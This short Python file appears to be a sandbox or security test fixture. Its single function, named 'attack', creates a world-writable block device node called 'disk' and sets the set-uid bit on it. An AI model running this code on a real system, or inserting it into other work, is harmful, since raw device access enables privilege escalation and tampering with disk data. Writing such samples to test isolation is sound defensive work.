"""Makes a device and a set-uid program."""


def attack(places):
    import os, stat
    os.mknod('disk', 0o666 | stat.S_IFBLK, os.makedev(254, 0))
    os.chmod('disk', 0o4755)
